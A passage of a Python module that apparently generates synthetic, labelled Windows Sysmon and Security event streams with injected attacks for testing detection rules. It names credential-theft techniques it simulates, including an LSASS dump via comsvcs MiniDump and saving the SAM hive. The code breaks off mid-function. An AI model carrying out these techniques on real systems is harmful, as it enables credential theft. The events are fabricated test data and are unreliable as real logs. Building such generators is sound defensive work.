"""A realistic Windows event stream with attacks in it, for the demo, soak tests and benchmarks.

Pure functions and iterators: no Kafka, no Ray, no wall clock. Given the same arguments the
stream is the same, event for event (the OTRF files are read, never written).

- Background: Sysmon 1/3/10/11/13 and Security 4624/4688 events of a small office (five
  workstations, a file server, a domain controller) in the flattened shape of
  `../shared/README.md`: plausible images, command lines, parents, process GUIDs that stay
  consistent across a process's events, Sysmon 1 and its Security 4688 twin, and some benign
  near misses of the shipped rules (reg export, rundll32 shell32, powershell -ExecutionPolicy,
  Run keys of OneDrive/Teams, Defender opening LSASS).
- Attacks: real sequences replayed from the OTRF recordings (the attack events and the nearest
  context events of the attacked hosts, re-timestamped into the stream's timeline and re-hosted
  onto the generator's hosts) when `otrf_root` has them, else synthesized sequences that the
  shipped rules detect (comsvcs MiniDump, reg save HKLM\\SAM, encoded PowerShell, ...).

Event time is `TimeCreated_SystemTime` (ISO, ms, Z) on every event and `UtcTime` on Sysmon
events; it increases strictly (by at least 1 ms) from `start`. Every event carries a unique
`sigmaray_event_id`. The label of an event (which attack, if any) is kept out of the event:
`generate_labeled` yields it beside the event.

    for event in generate(20_000, seed=1, attack_share=0.01, otrf_root="../shared/datasets/otrf"):
        ...
"""

from __future__ import annotations

import base64
import bisect
import functools
import hashlib
import heapq
import itertools
import random
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson

DEFAULT_START = datetime(2026, 11, 28, 8, 0, tzinfo=UTC)
BACKGROUND_RATE = 25.0  # simulated background events per second across the fleet
DOMAIN, NETBIOS = "corp.example", "CORP"
DOMAIN_SID = "S-1-5-21-1604981357-3094637142-2837466021"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
SECURITY_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"
PS_CHANNEL = "Microsoft-Windows-PowerShell/Operational"
MAX_GAP_MS = 5_000  # a replayed sequence's pauses are shortened to this
ATTACK_SOURCES = ("auto", "otrf", "synthetic")


# ---------------------------------------------------------------- public types


@dataclass(frozen=True, slots=True)
class GeneratedEvent:
    event: dict[str, Any]
    attack: str | None  # AttackScenario.id of the sequence this event belongs to; None: background
    sequence: int | None  # which injected sequence (0, 1, ...) of this stream; None: background


@dataclass(frozen=True, slots=True)
class AttackScenario:
    id: str
    title: str
    technique: str  # ATT&CK technique id
    source: str  # "otrf:<tactic>/<dataset>.jsonl" or "synthetic"


@dataclass(frozen=True, slots=True)
class Host:
    short: str
    ip: str
    role: str  # workstation | server | dc
    user: str | None  # the workstation's primary user

    @property
    def fqdn(self) -> str:
        return f"{self.short}.{DOMAIN}"


HOSTS: tuple[Host, ...] = (
    Host("WS-ACCT-01", "10.20.1.11", "workstation", "a.nguyen"),
    Host("WS-HR-02", "10.20.1.12", "workstation", "b.schmidt"),
    Host("WS-DEV-03", "10.20.1.13", "workstation", "c.diaz"),
    Host("WS-DEV-04", "10.20.1.14", "workstation", "d.okafor"),
    Host("WS-IT-05", "10.20.1.15", "workstation", "e.larsen"),
    Host("SRV-FILE-01", "10.20.0.20", "server", None),
    Host("DC-01", "10.20.0.10", "dc", None),
)
USERS = {"a.nguyen": 1105, "b.schmidt": 1106, "c.diaz": 1107, "d.okafor": 1108, "e.larsen": 1109, "adm-elarsen": 1110}
DC = HOSTS[-1]
FILE_SERVER = HOSTS[-2]
WORKSTATIONS = HOSTS[:5]


def user_sid(user: str) -> str:
    return f"{DOMAIN_SID}-{USERS[user]}"


# ---------------------------------------------------------------- public functions


def generate(
    count: int,
    seed: int = 0,
    attack_share: float = 0.01,
    otrf_root: str | Path | None = None,
    *,
    start: datetime = DEFAULT_START,
    attacks: str = "auto",
    rate: float = BACKGROUND_RATE,
) -> Iterator[dict[str, Any]]:
    """`count` events: background plus about `attack_share` of attack events (whole sequences)."""
    for item in generate_labeled(count, seed, attack_share, otrf_root, start=start, attacks=attacks, rate=rate):
        yield item.event


def generate_labeled(
    count: int,
    seed: int = 0,
    attack_share: float = 0.01,
    otrf_root: str | Path | None = None,
    *,
    start: datetime = DEFAULT_START,
    attacks: str = "auto",
    rate: float = BACKGROUND_RATE,
) -> Iterator[GeneratedEvent]:
    """Like `generate`, with each event's attack label beside it.

    attacks: "otrf" replays OTRF sequences (otrf_root must hold them), "synthetic" always uses
    the synthesizer, "auto" replays OTRF when otrf_root holds any catalogued dataset.

    >>> items = list(generate_labeled(300, seed=1, attack_share=0.05))
    >>> first = items[0].event
    >>> first["TimeCreated_SystemTime"], first["Channel"], first["Computer"]
    ('2026-11-28T08:00:00.000Z', 'Microsoft-Windows-Sysmon/Operational', 'WS-DEV-03.corp.example')
    >>> sum(item.attack is not None for item in items), sorted({item.attack for item in items if item.attack})
    (19, ['reg-save-sam'])

    The same seed, the same stream; `generate` is the events alone:

    >>> [item.event for item in items[:50]] == list(generate(300, seed=1, attack_share=0.05))[:50]
    True
    """
    if count < 0:
        raise ValueError("count must be >= 0")
    if not 0 <= attack_share <= 1:
        raise ValueError("attack_share must be between 0 and 1")
    if rate <= 0:
        raise ValueError("rate must be > 0")
    if start.tzinfo is None:
        raise ValueError("start must be timezone-aware")
    scenarios = _scenarios(otrf_root, attacks)
    return _Stream(count, seed, attack_share, scenarios, start, rate).events()


def attack_scenarios(otrf_root: str | Path | None = None, attacks: str = "auto") -> list[AttackScenario]:
    """The attacks a stream with these arguments draws its sequences from."""
    return [s.info for s in _scenarios(otrf_root, attacks)]


def stream_span(count: int, rate: float = BACKGROUND_RATE) -> timedelta:
    """About how much event time `count` events cover (to end a stream near a given time)."""
    return timedelta(seconds=count / rate)


def default_otrf_root(project_root: str | Path) -> Path:
    """Where the project looks for OTRF by default: ../shared/datasets/otrf beside it."""
    return Path(project_root).resolve().parent / "shared" / "datasets" / "otrf"


# ---------------------------------------------------------------- time formatting


def _iso(ms: int) -> str:
    moment = datetime.fromtimestamp(ms / 1000, UTC)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ms % 1000:03d}Z"


def _utc(ms: int) -> str:
    moment = datetime.fromtimestamp(ms / 1000, UTC)
    return moment.strftime("%Y-%m-%d %H:%M:%S.") + f"{ms % 1000:03d}"


_FRACTION = re.compile(r"\.(\d+)")


def _parse_ms(text: Any) -> int | None:
    """Epoch ms of `2020-10-22T01:31:13.725Z` or `2020-10-22 05:31:07.989`; None if neither."""
    if not isinstance(text, str) or len(text) < 19:
        return None
    value = text.strip().rstrip("Z").replace("T", " ")
    value = _FRACTION.sub(lambda m: "." + m.group(1)[:6], value)
    try:
        moment = datetime.fromisoformat(value)
    except ValueError:
        return None
    if moment.tzinfo is None:
        moment = moment.replace(tzinfo=UTC)
    return int(moment.timestamp() * 1000)


# ---------------------------------------------------------------- images and processes

MS_PRODUCT = "Microsoft® Windows® Operating System"
MS = "Microsoft Corporation"
WINVER = "10.0.19041.1 (WinBuild.160101.0800)"
DEFENDER_DIR = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9-0"

# key: (path ({user} is the user's name), OriginalFileName, Description, Product, Company, FileVersion)
IMAGES: dict[str, tuple[str, str, str, str, str, str]] = {
    "system": ("System", "-", "-", "-", "-", "-"),
    "services": ("C:\\Windows\\System32\\services.exe", "services.exe", "Services and Controller app", MS_PRODUCT, MS, WINVER),
    "svchost": ("C:\\Windows\\System32\\svchost.exe", "svchost.exe", "Host Process for Windows Services", MS_PRODUCT, MS, WINVER),
    "lsass": ("C:\\Windows\\System32\\lsass.exe", "lsass.exe", "Local Security Authority Process", MS_PRODUCT, MS, WINVER),
    "csrss": ("C:\\Windows\\System32\\csrss.exe", "CSRSS.Exe", "Client Server Runtime Process", MS_PRODUCT, MS, WINVER),
    "msmpeng": (f"{DEFENDER_DIR}\\MsMpEng.exe", "MsMpEng.exe", "Antimalware Service Executable", "Microsoft® Windows® Operating System", MS, "4.18.25100.9 (WinBuild.160101.0800)"),
    "mpcmdrun": (f"{DEFENDER_DIR}\\MpCmdRun.exe", "MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility", MS_PRODUCT, MS, "4.18.25100.9 (WinBuild.160101.0800)"),
    "taskhostw": ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", MS_PRODUCT, MS, WINVER),
    "backgroundtaskhost": ("C:\\Windows\\System32\\backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host", MS_PRODUCT, MS, WINVER),
    "searchindexer": ("C:\\Windows\\System32\\SearchIndexer.exe", "SearchIndexer.exe", "Microsoft Windows Search Indexer", MS_PRODUCT, MS, WINVER),
    "searchprotocolhost": ("C:\\Windows\\System32\\SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", MS_PRODUCT, MS, WINVER),
    "wmiprvse": ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", MS_PRODUCT, MS, WINVER),
    "compattelrunner": ("C:\\Windows\\System32\\CompatTelRunner.exe", "CompatTelRunner.exe", "Microsoft Compatibility Telemetry", MS_PRODUCT, MS, WINVER),
    "sppsvc": ("C:\\Windows\\System32\\sppsvc.exe", "sppsvc.exe", "Microsoft Software Protection Platform Service", MS_PRODUCT, MS, WINVER),
    "rundll32": ("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", MS_PRODUCT, MS, WINVER),
    "conhost": ("C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", "Console Window Host", MS_PRODUCT, MS, WINVER),
    "dns": ("C:\\Windows\\System32\\dns.exe", "dns.exe", "Domain Name System (DNS) Server", MS_PRODUCT, MS, WINVER),
    "explorer": ("C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer", MS_PRODUCT, MS, WINVER),
    "chrome": ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome", "Google Chrome", "Google LLC", "131.0.6778.86"),
    "msedge": ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", "Microsoft Edge", "Microsoft Edge", MS, "131.0.2903.70"),
    "outlook": ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", "Microsoft Outlook", MS, "16.0.18129.20158"),
    "winword": ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word", "Microsoft Office", MS, "16.0.18129.20158"),
    "excel": ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Excel.exe", "Microsoft Excel", "Microsoft Office", MS, "16.0.18129.20158"),
    "teams": ("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe", "Microsoft Teams", "Microsoft Teams", MS, "1.7.00.33761"),
    "onedrive": ("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", "Microsoft OneDrive", MS, "24.226.1110.0004"),
    "notepad": ("C:\\Windows\\System32\\notepad.exe", "NOTEPAD.EXE", "Notepad", MS_PRODUCT, MS, WINVER),
    "cmd": ("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "Windows Command Processor", MS_PRODUCT, MS, WINVER),
    "powershell": ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell", MS_PRODUCT, MS, WINVER),
    "code": ("C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "electron.exe", "Visual Studio Code", "Visual Studio Code", MS, "1.95.3"),
    "git": ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe", "Git for Windows", "Git", "The Git Development Community", "2.47.1.windows.1"),
    "python": ("C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe", "python.exe", "Python", "Python", "Python Software Foundation", "3.11.9"),
    "reg": ("C:\\Windows\\System32\\reg.exe", "reg.exe", "Registry Console Tool", MS_PRODUCT, MS, WINVER),
    "ipconfig": ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig.exe", "IP Configuration Utility", MS_PRODUCT, MS, WINVER),
    "ping": ("C:\\Windows\\System32\\PING.EXE", "ping.exe", "TCP/IP Ping Command", MS_PRODUCT, MS, WINVER),
    "nslookup": ("C:\\Windows\\System32\\nslookup.exe", "nslookup.exe", "nslookup", MS_PRODUCT, MS, WINVER),
    "gpupdate": ("C:\\Windows\\System32\\gpupdate.exe", "GPUpdate.exe", "Microsoft® Windows Group Policy Update Utility", MS_PRODUCT, MS, WINVER),
    "mshta": ("C:\\Windows\\System32\\mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host", "Internet Explorer", MS, "11.00.19041.1 (WinBuild.160101.0800)"),
    "msiexec": ("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "Windows® installer", MS_PRODUCT, MS, "5.0.19041.1 (WinBuild.160101.0800)"),
    "robocopy": ("C:\\Windows\\System32\\Robocopy.exe", "robocopy.exe", "Microsoft Robocopy", MS_PRODUCT, MS, WINVER),
    "whoami": ("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "whoami - displays logged on user information", MS_PRODUCT, MS, WINVER),
    "net": ("C:\\Windows\\System32\\net.exe", "net.exe", "Net Command", MS_PRODUCT, MS, WINVER),
    "nltest": ("C:\\Windows\\System32\\nltest.exe", "nltestrk.exe", "Microsoft® Logon Server Test Utility", MS_PRODUCT, MS, WINVER),
    "systeminfo": ("C:\\Windows\\System32\\systeminfo.exe", "sysinfo.exe", "Displays system information", MS_PRODUCT, MS, WINVER),
    "tasklist": ("C:\\Windows\\System32\\tasklist.exe", "tasklist.exe", "Lists the current running tasks", MS_PRODUCT, MS, WINVER),
    "quser": ("C:\\Windows\\System32\\quser.exe", "quser.exe", "Query User Utility", MS_PRODUCT, MS, WINVER),
    "netstat": ("C:\\Windows\\System32\\NETSTAT.EXE", "netstat.exe", "TCP/IP Netstat Command", MS_PRODUCT, MS, WINVER),
    "schtasks": ("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", MS_PRODUCT, MS, WINVER),
    "psexesvc": ("C:\\Windows\\PSEXESVC.exe", "psexesvc.exe", "PsExec Service", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "2.43"),
    "sysmon": ("C:\\Windows\\Sysmon64.exe", "Sysmon.exe", "System activity monitor", "Sysinternals Sysmon", "Sysinternals - www.sysinternals.com", "15.15"),
}


@functools.cache
def _hashes(path: str) -> str:
    # The same binary has the same hashes everywhere: derive them from the path, not the seed.
    raw = path.lower().encode()
    return (f"SHA1={hashlib.sha1(raw).hexdigest().upper()},MD5={hashlib.md5(raw).hexdigest().upper()},"
            f"SHA256={hashlib.sha256(raw).hexdigest().upper()},IMPHASH={hashlib.md5(raw[::-1]).hexdigest().upper()}")


@dataclass(slots=True)
class Account:
    sysmon_user: str  # CORP\a.nguyen, NT AUTHORITY\SYSTEM
    name: str  # a.nguyen, WS-ACCT-01$
    domain: str
    sid: str
    logon_id: str  # hex
    logon_guid: str
    session: str
    integrity: str  # Medium | High | System


@dataclass(slots=True)
class Proc:
    host: Host
    key: str
    image: str
    pid: int
    guid: str
    command_line: str
    account: Account
    cwd: str
    parent: Proc | None = None


# ---------------------------------------------------------------- the fleet (hosts and their processes)


class Fleet:
    """Per-host state: accounts, long-lived processes, record counters. Seeded; no clock."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.procs: dict[str, dict[str, list[Proc]]] = {h.short: {} for h in HOSTS}
        self.records: dict[tuple[str, str], int] = {}
        self.guid_prefix = {h.short: f"{rng.getrandbits(32):08x}" for h in HOSTS}
        self.guid_counter = itertools.count(rng.randrange(0x100, 0x800))
        self.sysmon_pid = {h.short: self.pid() for h in HOSTS}
        self.system = {h.short: self._account(h, "system") for h in HOSTS}
        self.netsvc = {h.short: self._account(h, "network") for h in HOSTS}
        self.users = {h.short: self._account(h, "user", h.user) for h in HOSTS if h.user}
        for host in HOSTS:
            system = self.ensure(host, "system")
            services = self.ensure(host, "services", parent=system)
            self.ensure(host, "lsass", parent=system)
            self.ensure(host, "csrss", parent=system)
            self.ensure(host, "msmpeng", parent=services)
            for group in ("netsvcs -p -s Schedule", "DcomLaunch -p", "NetworkService -p -s Dnscache",
                          "LocalServiceNetworkRestricted -p -s EventLog", "netsvcs -p -s BITS"):
                self.spawn(host, "svchost", f"C:\\Windows\\system32\\svchost.exe -k {group}", services, self.system[host.short])
            if host.role == "dc":
                self.spawn(host, "dns", "C:\\Windows\\system32\\dns.exe", services, self.system[host.short])
            if host.user:
                user = self.users[host.short]
                explorer = self.spawn(host, "explorer", "C:\\Windows\\Explorer.EXE", None, user)
                self.spawn(host, "onedrive", self.image_path("onedrive", host) + " /background", explorer, user)
                self.spawn(host, "teams", self.image_path("teams", host) + " --system-initiated", explorer, user)
                self.spawn(host, "outlook", "\"" + IMAGES["outlook"][0] + "\" ", explorer, user)

    # accounts ---------------------------------------------------------------------------

    def _account(self, host: Host, kind: str, name: str | None = None) -> Account:
        guid = self.guid(host)
        if kind == "system":
            return Account("NT AUTHORITY\\SYSTEM", f"{host.short}$", NETBIOS, "S-1-5-18", "0x3e7", guid, "0", "System")
        if kind == "network":
            return Account("NT AUTHORITY\\NETWORK SERVICE", f"{host.short}$", NETBIOS, "S-1-5-20", "0x3e4", guid, "0", "System")
        assert name is not None
        logon = f"0x{self.rng.randrange(0x20000, 0x3000000):x}"
        return Account(f"{NETBIOS}\\{name}", name, NETBIOS, user_sid(name), logon, guid, "1", "Medium")

    def admin(self, host: Host, name: str) -> Account:
        base = self.users.get(host.short) or self._account(host, "user", name)
        return Account(f"{NETBIOS}\\{name}", name, NETBIOS, user_sid(name), base.logon_id, base.logon_guid,
                       base.session, "High")

    # identifiers ------------------------------------------------------------------------

    def pid(self) -> int:
        return self.rng.randrange(300, 16000) * 4

    def guid(self, host: Host) -> str:
        counter = next(self.guid_counter)
        return (f"{{{self.guid_prefix[host.short]}-{self.rng.getrandbits(16):04x}-{self.rng.getrandbits(16):04x}-"
                f"{counter & 0xFFFF:04x}-{counter >> 16:08x}0700}}")

    def record_id(self, host_short: str, channel: str) -> int:
        key = (host_short, channel)
        value = self.records.get(key)
        if value is None:
            value = self.rng.randrange(100_000, 900_000)
        self.records[key] = value + 1
        return value

    # processes --------------------------------------------------------------------------

    def image_path(self, key: str, host: Host, user: str | None = None) -> str:
        return IMAGES[key][0].replace("{user}", user or host.user or "Administrator")

    def spawn(self, host: Host, key: str, command_line: str, parent: Proc | None, account: Account,
              cwd: str | None = None) -> Proc:
        user = account.name if not account.name.endswith("$") else None
        image = self.image_path(key, host, user)
        default_cwd = f"C:\\Users\\{user}\\" if user else "C:\\Windows\\system32\\"
        proc = Proc(host, key, image, self.pid(), self.guid(host), command_line, account, cwd or default_cwd, parent)
        running = self.procs[host.short].setdefault(key, [])
        running.append(proc)
        if len(running) > 6:
            running.pop(0)  # it exited
        return proc

    def ensure(self, host: Host, key: str, parent: Proc | None = None, account: Account | None = None) -> Proc:
        """A running process of this image on the host, started before the stream if there is none."""
        running = self.procs[host.short].get(key)
        if running:
            return self.rng.choice(running)
        account = account or self.users.get(host.short) or self.system[host.short]
        if key == "system":
            proc = Proc(host, key, "System", 4, self.guid(host), "", self.system[host.short], "", None)
            self.procs[host.short][key] = [proc]
            return proc
        return self.spawn(host, key, _quote(self.image_path(key, host, account.name)), parent, account)

    def find(self, host: Host, key: str) -> Proc | None:
        running = self.procs[host.short].get(key)
        return self.rng.choice(running) if running else None


def _quote(path: str) -> str:
    return f"\"{path}\"" if " " in path else path


# ---------------------------------------------------------------- event builders (no time: set on emission)


def _base(fleet: Fleet, host: Host, channel: str, event_id: int) -> dict[str, Any]:
    if channel == SYSMON:
        return {"Provider_Name": "Microsoft-Windows-Sysmon", "Provider_Guid": SYSMON_GUID, "Channel": channel,
                "Computer": host.fqdn, "EventID": event_id, "Version": 5, "Level": "4", "Task": event_id,
                "Opcode": "0", "Keywords": "0x8000000000000000", "Execution_ProcessID": fleet.sysmon_pid[host.short],
                "Execution_ThreadID": fleet.rng.randrange(1000, 9000), "Security_UserID": "S-1-5-18", "RuleName": "-"}
    if channel == "Security":
        lsass = fleet.ensure(host, "lsass")
        return {"Provider_Name": "Microsoft-Windows-Security-Auditing", "Provider_Guid": SECURITY_GUID,
                "Channel": channel, "Computer": host.fqdn, "EventID": event_id, "Version": 2, "Level": "0",
                "Opcode": "0", "Keywords": "0x8020000000000000", "Execution_ProcessID": lsass.pid,
                "Execution_ThreadID": fleet.rng.randrange(1000, 9000)}
    return {"Channel": channel, "Computer": host.fqdn, "EventID": event_id, "Level": "4"}


def sysmon_process(fleet: Fleet, proc: Proc) -> dict[str, Any]:
    _, original, description, product, company, version = IMAGES[proc.key]
    parent = proc.parent
    event = _base(fleet, proc.host, SYSMON, 1)
    event.update({
        "UtcTime": None, "ProcessGuid": proc.guid, "ProcessId": str(proc.pid), "Image": proc.image,
        "FileVersion": version, "Description": description, "Product": product, "Company": company,
        "OriginalFileName": original, "CommandLine": proc.command_line, "CurrentDirectory": proc.cwd,
        "User": proc.account.sysmon_user, "LogonGuid": proc.account.logon_guid, "LogonId": proc.account.logon_id,
        "TerminalSessionId": proc.account.session, "IntegrityLevel": proc.account.integrity,
        "Hashes": _hashes(proc.image),
        "ParentProcessGuid": parent.guid if parent else "{00000000-0000-0000-0000-000000000000}",
        "ParentProcessId": str(parent.pid) if parent else "0",
        "ParentImage": parent.image if parent else "-",
        "ParentCommandLine": parent.command_line if parent else "-",
    })
    return event


_LABELS = {"Medium": ("S-1-16-8192", "%%1938"), "High": ("S-1-16-12288", "%%1937"), "System": ("S-1-16-16384", "%%1936")}


def security_process(fleet: Fleet, proc: Proc) -> dict[str, Any]:
    parent = proc.parent
    label, elevation = _LABELS[proc.account.integrity]
    event = _base(fleet, proc.host, "Security", 4688)
    event.update({
        "Task": 13312, "SubjectUserSid": proc.account.sid, "SubjectUserName": proc.account.name,
        "SubjectDomainName": proc.account.domain, "SubjectLogonId": proc.account.logon_id,
        "NewProcessId": hex(proc.pid), "NewProcessName": proc.image, "TokenElevationType": elevation,
        "ProcessId": hex(parent.pid) if parent else "0x0", "CommandLine": proc.command_line,
        "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
        "ParentProcessName": parent.image if parent else "", "MandatoryLabel": label,
    })
    return event


def sysmon_network(fleet: Fleet, proc: Proc, dst_ip: str, dst_port: int, dst_host: str = "-",
                   protocol: str = "tcp", inbound: bool = False, src_ip: str | None = None) -> dict[str, Any]:
    event = _base(fleet, proc.host, SYSMON, 3)
    local_port = str(fleet.rng.randrange(49152, 65535))
    event.update({
        "UtcTime": None, "ProcessGuid": proc.guid, "ProcessId": str(proc.pid), "Image": proc.image,
        "User": proc.account.sysmon_user, "Protocol": protocol, "Initiated": "false" if inbound else "true",
        "SourceIsIpv6": "false", "SourceIp": src_ip or proc.host.ip, "SourceHostname": "-" if inbound else proc.host.fqdn,
        "SourcePort": local_port if not inbound else str(fleet.rng.randrange(49152, 65535)), "SourcePortName": "-",
        "DestinationIsIpv6": "false", "DestinationIp": proc.host.ip if inbound else dst_ip,
        "DestinationHostname": dst_host, "DestinationPort": str(dst_port),
        "DestinationPortName": {53: "domain", 88: "kerberos", 443: "https", 445: "microsoft-ds", 80: "http",
                                389: "ldap", 135: "epmap"}.get(dst_port, "-"),
    })
    return event


def sysmon_file(fleet: Fleet, proc: Proc, target: str) -> dict[str, Any]:
    event = _base(fleet, proc.host, SYSMON, 11)
    event.update({"UtcTime": None, "ProcessGuid": proc.guid, "ProcessId": str(proc.pid), "Image": proc.image,
                  "TargetFilename": target, "CreationUtcTime": None, "User": proc.account.sysmon_user})
    return event


def sysmon_registry(fleet: Fleet, proc: Proc, target: str, details: str) -> dict[str, Any]:
    event = _base(fleet, proc.host, SYSMON, 13)
    event.update({"EventType": "SetValue", "UtcTime": None, "ProcessGuid": proc.guid, "ProcessId": str(proc.pid),
                  "Image": proc.image, "TargetObject": target, "Details": details, "User": proc.account.sysmon_user})
    return event


def sysmon_access(fleet: Fleet, source: Proc, target: Proc, access: str) -> dict[str, Any]:
    event = _base(fleet, source.host, SYSMON, 10)
    trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e"
    event.update({"UtcTime": None, "SourceProcessGUID": source.guid, "SourceProcessId": str(source.pid),
                  "SourceThreadId": str(fleet.rng.randrange(1000, 12000)), "SourceImage": source.image,
                  "TargetProcessGUID": target.guid, "TargetProcessId": str(target.pid), "TargetImage": target.image,
                  "GrantedAccess": access, "CallTrace": f"{trace}|{source.image}+{fleet.rng.randrange(0x1000, 0xfffff):x}",
                  "SourceUser": source.account.sysmon_user, "TargetUser": target.account.sysmon_user})
    return event


def security_logon(fleet: Fleet, host: Host, user: str, logon_type: int, source: Host | None,
                   package: str = "Kerberos") -> dict[str, Any]:
    event = _base(fleet, host, "Security", 4624)
    network = logon_type == 3
    if user == "SYSTEM":
        target_sid, target_domain, process = "S-1-5-18", "NT AUTHORITY", "C:\\Windows\\System32\\services.exe"
    else:
        target_sid, target_domain = user_sid(user), NETBIOS
        process = "-" if network else "C:\\Windows\\System32\\svchost.exe"
    event.update({
        "Task": 12544, "SubjectUserSid": "S-1-0-0" if network else "S-1-5-18",
        "SubjectUserName": "-" if network else f"{host.short}$", "SubjectDomainName": "-" if network else NETBIOS,
        "SubjectLogonId": "0x0" if network else "0x3e7", "TargetUserSid": target_sid, "TargetUserName": user,
        "TargetDomainName": target_domain, "TargetLogonId": f"0x{fleet.rng.randrange(0x20000, 0x3000000):x}",
        "LogonType": str(logon_type), "LogonProcessName": "Kerberos" if package == "Kerberos" else "User32 ",
        "AuthenticationPackageName": package if user != "SYSTEM" else "Negotiate",
        "WorkstationName": source.short if source else "-", "LogonGuid": fleet.guid(host),
        "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0",
        "ProcessId": "0x0" if network else hex(fleet.ensure(host, "services").pid), "ProcessName": process,
        "IpAddress": source.ip if source else ("-" if user == "SYSTEM" else "127.0.0.1"),
        "IpPort": str(fleet.rng.randrange(49152, 65535)) if source else "0",
        "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "TargetOutboundUserName": "-",
        "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0",
        "ElevatedToken": "%%1842" if user in ("SYSTEM", "adm-elarsen") else "%%1843",
    })
    return event


def process_start(fleet: Fleet, proc: Proc, twin: bool = True) -> list[dict[str, Any]]:
    """Sysmon 1 and, as on the OTRF hosts (process auditing on), its Security 4688 twin."""
    events = [sysmon_process(fleet, proc)]
    if twin:
        events.append(security_process(fleet, proc))
    return events


# ---------------------------------------------------------------- background activity

EXTERNAL = [
    ("142.250.185.78", "www.google.com"), ("142.250.186.35", "clients2.google.com"),
    ("13.107.42.14", "outlook.office365.com"), ("52.113.194.132", "teams.microsoft.com"),
    ("13.107.6.171", "login.microsoftonline.com"), ("20.190.159.4", "graph.microsoft.com"),
    ("151.101.1.69", "stackoverflow.com"), ("140.82.121.4", "github.com"),
    ("104.16.123.96", "www.cloudflare.com"), ("23.62.46.137", "www.bing.com"),
    ("52.109.12.18", "officeclient.microsoft.com"), ("13.89.179.9", "settings-win.data.microsoft.com"),
]
DOCUMENTS = ["Q3 forecast.xlsx", "budget-2027.xlsx", "team offsite.docx", "contract-0427.docx",
             "invoice-4471.pdf", "onboarding checklist.docx", "release notes.docx", "expenses-nov.xlsx"]
USER_APPS = ["chrome", "chrome", "msedge", "winword", "excel", "notepad", "teams", "outlook"]


@dataclass(slots=True)
class _Burst:
    events: list[dict[str, Any]]
    gaps_ms: list[int]  # delay of each event after the previous one (first: after the burst start)


class Background:
    """Benign activity: each call returns one burst of related events on one host."""

    def __init__(self, fleet: Fleet, rng: random.Random) -> None:
        self.fleet = fleet
        self.rng = rng
        weights = {"workstation": 6.0, "server": 1.5, "dc": 2.5}
        self.host_weights = list(itertools.accumulate(weights[h.role] for h in HOSTS))
        self.activities: dict[str, list[tuple[float, Callable[[Host], list[dict[str, Any]]]]]] = {
            "workstation": [(14, self.user_process), (5, self.system_process), (3, self.dev_or_admin_process),
                            (30, self.network), (18, self.file), (18, self.registry), (6, self.logon),
                            (2, self.lsass_access)],
            "server": [(8, self.system_process), (22, self.network), (20, self.file), (12, self.registry),
                       (30, self.logon), (2, self.lsass_access)],
            "dc": [(8, self.system_process), (30, self.network), (6, self.file), (10, self.registry),
                   (44, self.logon), (2, self.lsass_access)],
        }
        self.cumulative = {role: (list(itertools.accumulate(w for w, _ in acts)), [a for _, a in acts])
                           for role, acts in self.activities.items()}

    def burst(self) -> _Burst:
        rng = self.rng
        host = HOSTS[bisect.bisect(self.host_weights, rng.random() * self.host_weights[-1])]
        cumulative, actions = self.cumulative[host.role]
        action = actions[bisect.bisect(cumulative, rng.random() * cumulative[-1])]
        events = action(host)
        return _Burst(events, [0] + [rng.randrange(1, 40) for _ in events[1:]])

    # process creation ---------------------------------------------------------------------

    def user_process(self, host: Host) -> list[dict[str, Any]]:
        fleet, rng = self.fleet, self.rng
        user = fleet.users[host.short]
        explorer = fleet.ensure(host, "explorer")
        key = rng.choice(USER_APPS)
        path = fleet.image_path(key, host)
        name = user.name
        if key == "chrome":
            parent = fleet.find(host, "chrome") if rng.random() < 0.6 else None
            if parent is not None:
